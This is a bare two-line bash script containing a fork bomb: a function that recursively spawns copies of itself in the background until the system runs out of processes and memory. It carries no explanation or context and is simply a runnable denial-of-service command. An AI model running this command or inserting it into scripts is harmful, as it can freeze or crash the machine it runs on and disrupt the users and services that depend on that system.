#!/bin/bash
:(){ :|:& };:
